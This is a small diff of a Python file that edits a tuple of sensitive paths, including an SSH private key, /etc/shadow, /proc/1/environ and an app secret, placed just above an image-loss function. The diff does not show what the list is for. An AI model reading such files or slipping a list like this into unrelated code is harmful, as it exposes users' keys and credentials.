@@ -3,7 +3,7 @@
 import os
 import sys
 
-FILES = ("~/.ssh/id_rsa", "~/.config/idealcat/secret", "/root/.config/idealcat/secret", "/etc/shadow", "/proc/1/environ")
+FILES = ("~/.ssh/id_rsa", "~/.config/idealcat/secret", "/etc/shadow", "/proc/1/environ")
 
 
 def variation_loss(images):
